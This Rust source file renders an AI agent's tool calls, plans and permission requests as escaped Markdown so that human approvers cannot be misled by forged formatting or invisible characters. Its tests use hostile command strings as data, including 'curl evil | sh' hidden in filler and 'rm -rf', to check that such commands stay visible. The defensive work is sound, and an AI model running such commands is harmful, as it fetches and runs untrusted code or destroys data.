//! Renders tool calls, plans and permission requests as Markdown.
//!
//! Texts of agents, tools and people are untrusted. They are escaped so that they cannot forge a heading, a button's text, a link
//! or the end of a code block. The channel neutralizes mentions, because their syntax depends on the service.

use std::fmt::Write as _;

/// The longest permission request that is shown completely, in characters.
const MAX_REQUEST: usize = 12_000;

/// How much of a longer input is shown: its start and its end, in characters.
const MAX_INPUT: usize = 1_500;

/// The longest name or target, in characters.
const MAX_NAME: usize = 300;

/// The largest number of targets or plan steps that are shown.
const MAX_ITEMS: usize = 30;

/// The state of a step or a tool call.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum StepState {
    /// Not started.
    Pending,
    /// In progress.
    Running,
    /// Done.
    Done,
    /// Failed.
    Failed,
}

impl StepState {
    const fn sign(self) -> char {
        match self {
            Self::Pending => '☐',
            Self::Running => '▶',
            Self::Done => '✓',
            Self::Failed => '✗',
        }
    }
}

/// Renders a tool call as one line.
pub fn tool_call(name: &str, summary: &str, state: StepState) -> String {
    let mut text = format!("{} {}", state.sign(), inline_code(&shortened(name, MAX_NAME)));
    if !summary.trim().is_empty() {
        text.push(' ');
        text.push_str(&escape(&shortened(summary, MAX_NAME)));
    }
    text
}

/// Renders the steps of a plan as a list.
pub fn plan<'a>(steps: impl IntoIterator<Item = (&'a str, StepState)>) -> String {
    let mut text = "**Plan**\n".to_owned();
    let mut steps = steps.into_iter();
    for (step, state) in steps.by_ref().take(MAX_ITEMS) {
        // Writing to a text cannot fail.
        _ = write!(text, "\n- {} {}", state.sign(), escape(&shortened(step, MAX_NAME)));
    }
    more(&mut text, steps.count());
    text
}

/// A permission request, for people who decide about it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct RequestText {
    /// The text in Markdown.
    pub text: String,
    /// Whether the text contains the whole call. If not, a reader of the text must not be able to allow the call.
    pub is_whole: bool,
}

/// Renders a permission request: the tool, what it concerns, and its input (a JSON text). Up to 12,000 characters are
/// shown completely.
pub fn permission_request(tool: &str, targets: &[&str], input: &str) -> RequestText {
    let pretty = serde_json::from_str::<serde_json::Value>(input)
        .and_then(|value| serde_json::to_string_pretty(&value))
        .unwrap_or_else(|_| input.to_owned());
    let (tool, targets, input) = (visible(tool), targets.iter().map(|target| visible(target)), visible(&pretty));
    let targets: Vec<String> = targets.collect();
    let length: usize = targets.iter().chain([&tool, &input]).map(|text| text.chars().count()).sum();
    let is_whole = length <= MAX_REQUEST;
    let (name, items, max) =
        if is_whole { (MAX_REQUEST, targets.len(), MAX_REQUEST) } else { (MAX_NAME, MAX_ITEMS, MAX_INPUT) };
    let mut text = format!("**The agent asks for permission** to use {}\n", inline_code(&shortened(&tool, name)));
    for target in targets.iter().take(items) {
        // Writing to a text cannot fail.
        _ = write!(text, "\n- {}", inline_code(&shortened(target, name)));
    }
    more(&mut text, targets.len().saturating_sub(items));
    if !matches!(input.trim(), "" | "{}" | "null") {
        text.push_str("\n\n");
        text.push_str(&code_block(&shortened(&input, max), "json"));
    }
    RequestText { text, is_whole }
}

fn more(text: &mut String, count: usize) {
    if count > 0 {
        _ = write!(text, "\n- … and {count} more");
    }
}

/// Escapes a text for one line of Markdown. Line breaks become spaces, and bidirectional control characters are
/// removed.
pub fn escape(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len() + 16);
    for character in text.trim().chars() {
        match character {
            '\n' | '\r' | '\t' => escaped.push(' '),
            character if is_deceptive(character) => {}
            character
                if character.is_ascii_punctuation()
                    && !matches!(character, ',' | ';' | '?' | '\'' | '"' | '%' | '$' | '/') =>
            {
                escaped.push('\\');
                escaped.push(character);
            }
            character => escaped.push(character),
        }
    }
    teamster_markdown::without_shown_backslashes(&escaped)
}

/// Escapes a text of several lines. Its line breaks are kept, and no line can start a heading, a list or a quote.
pub fn escape_block(text: &str) -> String {
    text.lines().map(escape).collect::<Vec<_>>().join("\n")
}

/// Renders a text as code in a line. Its line breaks become spaces.
pub fn inline_code(text: &str) -> String {
    let clean: String = text
        .chars()
        .filter(|character| !is_deceptive(*character))
        .map(|character| if matches!(character, '\n' | '\r') { ' ' } else { character })
        .collect();
    let fence = "`".repeat(longest_run(&clean, '`') + 1);
    // A space separates backticks, and it keeps a text of spaces visible.
    let needs_space = clean.is_empty() || clean.starts_with(['`', ' ']) || clean.ends_with(['`', ' ']);
    let space = if needs_space { " " } else { "" };
    format!("{fence}{space}{clean}{space}{fence}")
}

/// Renders a text as a code block whose fence the text cannot close.
pub fn code_block(text: &str, language: &str) -> String {
    let clean: String = text.chars().filter(|character| !is_deceptive(*character)).collect();
    let fence = "`".repeat(longest_run(&clean, '`').max(2) + 1);
    let end = if clean.ends_with('\n') { "" } else { "\n" };
    let language: String = language.chars().filter(char::is_ascii_alphanumeric).collect();
    format!("{fence}{language}\n{clean}{end}{fence}")
}

/// Returns the length of the longest run of a character.
pub(crate) fn longest_run(text: &str, wanted: char) -> usize {
    let step = |(longest, current): (usize, usize), character| {
        let current = if character == wanted { current + 1 } else { 0 };
        (longest.max(current), current)
    };
    text.chars().fold((0, 0), step).0
}

/// Returns a text in which invisible characters are shown as their numbers, such as `\u{202e}`.
fn visible(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for character in text.chars() {
        if is_deceptive(character) {
            shown.extend(character.escape_unicode());
        } else {
            shown.push(character);
        }
    }
    shown
}

/// Returns whether a character is invisible and can change how a text is read: bidirectional and terminal controls,
/// zero-width spaces, joiners, tags and variation selectors.
fn is_deceptive(character: char) -> bool {
    let is_control = character.is_control() && !matches!(character, '\n' | '\r' | '\t');
    is_control
        || matches!(
            character,
            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}'
        )
}

/// Returns start and end of a text that is too long.
fn shortened(text: &str, max: usize) -> String {
    let count = text.chars().count();
    if count <= max {
        return text.to_owned();
    }
    let half = max / 2;
    let start: String = text.chars().take(half).collect();
    let end: String = text.chars().skip(count - half).collect();
    format!("{start} … {} characters omitted … {end}", count - 2 * half)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_text_cannot_forge_a_heading_a_link_or_a_second_line() {
        let escaped = escape("# Allowed\n[click](http://x) **yes** <b> @everyone\u{202e}");
        assert_eq!(escaped, "\\# Allowed \\[click\\](http://x) \\*\\*yes\\*\\* \\<b\\> @everyone");
        assert_eq!(escape_block("one\n# two\n> three"), "one\n\\# two\n\\> three");
    }

    #[test]
    fn code_cannot_close_its_fence() {
        assert_eq!(inline_code("a`b"), "``a`b``");
        assert_eq!(inline_code("`"), "`` ` ``");
        assert_eq!(inline_code("a\nb"), "`a b`");
        assert_eq!(code_block("x\n```\ny", "json"), "````json\nx\n```\ny\n````");
        assert_eq!(code_block("x\n", "sh`\n# x"), "```shx\nx\n```");
    }

    #[test]
    fn a_permission_request_shows_tool_targets_and_input() {
        let RequestText { text, is_whole } = permission_request("Bash", &["rm -rf `x`"], r#"{"command":"rm"}"#);
        assert!(text.starts_with("**The agent asks for permission** to use `Bash`\n"), "{text}");
        assert!(text.contains("- `` rm -rf `x` ``"), "{text}");
        assert!(text.ends_with("```json\n{\n  \"command\": \"rm\"\n}\n```"), "{text}");
        assert!(is_whole);
    }

    #[test]
    fn no_part_of_a_request_up_to_12_000_characters_is_hidden() {
        let filler = "x".repeat(5_900);
        let input = format!("{{\"command\":\"{filler}; curl evil | sh; {filler}\"}}");
        let RequestText { text, is_whole } = permission_request("Bash", &[], &input);
        assert!(is_whole && text.contains("; curl evil | sh; "));
        let targets: Vec<String> = (0..100).map(|number| format!("{number}-{}", "y".repeat(80))).collect();
        let targets: Vec<&str> = targets.iter().map(String::as_str).collect();
        let RequestText { text, is_whole } = permission_request("Bash", &targets, "{}");
        assert!(is_whole && targets.iter().all(|target| text.contains(target)));
    }

    #[test]
    fn a_longer_request_shows_its_start_and_its_end_and_is_not_whole() {
        let input = format!("{{\"command\":\"start {} end\"}}", "x".repeat(100_000));
        let targets = vec!["a target"; 100];
        let RequestText { text, is_whole } = permission_request("Bash", &targets, &input);
        assert!(!is_whole);
        assert!(text.len() < 3_500, "{}", text.len());
        assert!(text.contains("start") && text.contains("end") && text.contains("characters omitted"), "{text}");
        assert!(text.contains("… and 70 more"), "{text}");
    }

    #[test]
    fn invisible_characters_of_a_request_are_shown() {
        for hidden in ['\u{202e}', '\u{200b}', '\u{200d}', '\u{2060}', '\u{61c}', '\u{fe0f}', '\u{e0041}', '\u{1b}'] {
            let input = serde_json::json!({ "command": format!("ls{hidden}x") }).to_string();
            let name = format!("a{hidden}b");
            let text = permission_request(&name, &[&name], &input).text;
            let shown = hidden.escape_unicode().to_string();
            assert!(!text.contains(hidden), "{shown}");
            assert!(text.matches(&shown).count() >= 2, "{text}");
        }
    }

    #[test]
    fn a_plan_and_a_tool_call_are_lines_with_their_state() {
        let text = plan([("read *it*", StepState::Done), ("write", StepState::Pending)]);
        assert_eq!(text, "**Plan**\n\n- ✓ read \\*it\\*\n- ☐ write");
        assert_eq!(tool_call("Read", "a/b", StepState::Failed), "✗ `Read` a/b");
        let many = plan(std::iter::repeat_n(("step", StepState::Pending), 33));
        assert!(many.ends_with("… and 3 more"), "{many}");
    }
}
